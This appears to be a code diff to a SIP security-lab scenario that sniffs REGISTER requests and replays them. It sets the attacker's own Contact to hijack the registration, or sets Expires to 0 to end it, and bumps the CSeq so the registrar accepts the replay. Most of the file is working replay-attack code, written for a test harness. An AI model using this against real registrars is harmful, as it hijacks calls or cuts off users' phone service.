@@ -1,30 +1,28 @@
 /** A16 by replay: a REGISTER with its credentials, read off the wire, is sent again; the digest does not cover the Contact (RFC 7616 §5.5). */
-import { readMessage, uriOf, userOf, valueOf } from '../agents/message.ts';
+import { headerOf, readMessage, uriOf, userOf } from '../agents/message.ts';
 import type { Account, Intensity, Lab, Scenario } from '../scenario.ts';
 import { Actor, unlabelled } from './senders/actor.ts';
-import { enrol } from './senders/dial.ts';
+import { enrol, spareAccount } from './senders/dial.ts';
 
-const VICTIMS: Readonly<Record<string, string>> = { '7730': 'saffron-piston-31', '7731': 'glacier-bramble-88', '7732': 'tundra-cobalt-64' };
 const SNIFF = 7;
 
 /** A tap at the registrar is the ear; the answer shows whether the credentials were taken a second time. */
 export const registrationReplay: Scenario = {
   name: 'registration-replay',
-  title: 'Sniffed REGISTERs are sent again, with another Contact or as they were',
+  title: 'Sniffed REGISTERs are sent again, with another Contact or to end the registration',
   attack: 'A16',
   intensities: [
     { name: '3 accounts, own contact', value: 3 },
-    { name: '2 accounts, same contact', value: 2 },
+    { name: '2 accounts, ended', value: 2 },
   ],
-  site: { phones: 6, extraAccounts: VICTIMS },
+  site: { phones: 6 },
   needs: ['tshark'],
   proof: 'hashes',
   run,
 };
 
 async function run(lab: Lab, intensity: Intensity): Promise<void> {
-  const accounts = Object.entries(VICTIMS).map(([user, password]): Account => ({ user, password, domain: lab.site.domain }));
-  const victims = accounts.slice(0, intensity.value);
+  const victims = Array.from({ length: intensity.value }, (_, i) => spareAccount(lab, i));
   const sniffed = sniff(lab);
   await lab.sleep(3_000); // tshark needs a moment to start
   const phones = await Promise.all(victims.map((account) => register(lab, account)));
@@ -69,9 +67,23 @@ async function replay(lab: Lab, actor: Actor, text: string, ownContact: boolean)
   const kept = text.replace(/^(?:via|v)\s*:.*\r\n/gim, '');
   const start = kept.indexOf('\r\n') + 2;
   const via = `Via: SIP/2.0/UDP ${actor.address}:${actor.port};branch=${branch};rport\r\n`;
-  const contact = actor.contact(userOf(uriOf(valueOf(message, 'to'))));
+  const rest = later(kept.slice(start));
   const moved =
-    kept.slice(0, start) + via + (ownContact ? kept.slice(start).replace(/^(contact|m)\s*:.*$/im, `$1: ${contact}`) : kept.slice(start));
-  const answer = await actor.deliver(Buffer.from(moved, 'latin1'), branch, lab.site.proxy, valueOf(message, 'call-id'));
+    kept.slice(0, start) + via + (ownContact ? withContact(rest, actor.contact(userOf(uriOf(headerOf(message, 'to'))))) : ended(rest));
+  const answer = await actor.deliver(Buffer.from(moved, 'latin1'), branch, lab.site.proxy, headerOf(message, 'call-id'));
   return answer?.status === 200;
+}
+
+/** The next CSeq: a registrar ignores what it has seen. The digest covers neither this nor the following (RFC 7616 §3.4.3). */
+function later(fields: string): string {
+  return fields.replace(/^cseq\s*:\s*(\d+)/im, (_, number: string) => `CSeq: ${Number(number) + 1}`);
+}
+
+function withContact(fields: string, contact: string): string {
+  return fields.replace(/^(contact|m)\s*:.*$/im, `$1: ${contact}`);
+}
+
+/** The registration is to last no second longer. */
+function ended(fields: string): string {
+  return fields.replace(/^expires\s*:.*$/im, 'Expires: 0').replace(/;\s*expires=\d+/i, ';expires=0');
 }
